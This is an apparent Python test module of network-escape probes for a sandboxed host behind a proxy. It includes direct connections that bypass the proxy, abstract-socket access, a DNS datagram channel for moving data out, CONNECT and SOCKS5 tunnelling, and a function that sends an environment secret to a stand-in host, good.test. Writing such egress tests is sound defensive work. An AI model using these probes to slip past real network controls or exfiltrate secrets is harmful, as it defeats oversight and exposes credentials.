"""Attacks on the network: past the proxy, and through it."""

from __future__ import annotations

import os
import socket
import struct
from urllib.parse import urlsplit

__all__ = ["abstract", "ask_names", "direct", "placeholder", "raw", "socks", "through"]

SECONDS = 15
REACHED = b"reached "


def _said(connection: socket.socket) -> bytes:
    data = b""
    try:
        while len(data) < 1 << 16 and (piece := connection.recv(65536)):
            data += piece
    except OSError:
        pass
    return data


def _reached(said: bytes, witness: str) -> str:
    """What the witness at an address says of itself: nobody else can."""
    at = said.find(REACHED + witness.encode())
    return said[at : at + 80].split(b"\n")[0].decode("ascii", "replace") if at >= 0 else ""


def _get(connection: socket.socket, host: str, witness: str, path: str = "/") -> str:
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    return _reached(_said(connection), witness)


def _proxy() -> socket.socket:
    place = urlsplit(os.environ.get("http_proxy", "http://127.0.0.1:3128"))
    return socket.create_connection((place.hostname or "127.0.0.1", place.port or 3128), SECONDS)


def direct(address: str, port: int) -> str:
    """A connection without the proxy."""
    with socket.create_connection((address, port), SECONDS) as connection:
        return _get(connection, "x", address)


def abstract(name: str) -> str:
    """A socket of the host that has no file, only a name in its network namespace."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + name)
        return _said(connection).decode()


def ask_names(server: str, name: str) -> str:
    """A datagram to the host's name server: a way out for 60 bytes a time."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(2)
        asking.sendto(b"\1\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1", (server, 53))
        return f"answered with {len(asking.recv(512))} bytes"


def through(target: str, witness: str, host: str = "x", path: str = "/") -> str:
    """A tunnel by CONNECT, and a request in it."""
    with _proxy() as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("utf-8", "surrogateescape"))
        head = b""
        while b"\r\n\r\n" not in head and (piece := connection.recv(4096)):
            head += piece
        if not head.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")):
            return ""
        return _get(connection, host, witness, path)


def raw(data: str, witness: str) -> str:
    """These bytes to the proxy (each character is one)."""
    with _proxy() as connection:
        connection.sendall(data.encode("latin-1"))
        return _reached(_said(connection), witness)


def socks(form: int, target: str, port: int, witness: str, command: int = 1) -> str:
    """SOCKS5: `form` 1 for an IPv4 address, 3 for a name (each character a byte), 4 for IPv6."""
    name = target.encode("latin-1")
    where = {1: lambda: socket.inet_aton(target), 4: lambda: socket.inet_pton(socket.AF_INET6, target)}.get(
        form, lambda: bytes([len(name)]) + name
    )()
    with _proxy() as connection:
        connection.sendall(b"\5\1\0")
        if connection.recv(2) != b"\5\0":
            return ""
        connection.sendall(struct.pack("BBBB", 5, command, 0, form) + where + struct.pack(">H", port))
        if connection.recv(10)[1:2] != b"\0":
            return ""
        return _get(connection, "x", witness) if command == 1 else "the command was accepted"


def placeholder(variable: str, header: bool = False) -> str:
    """A secret's placeholder to a host that it is not for: useless there, and still nobody's business."""
    held = os.environ.get(variable, "")
    if not held:
        return ""
    path, line = ("/", f"X-Api-Key: {held}\r\n") if header else (f"/?key={held}", "")
    request = f"GET http://good.test{path} HTTP/1.1\r\nHost: good.test\r\n{line}Connection: close\r\n\r\n"
    return raw(request, "45.0.0.10")
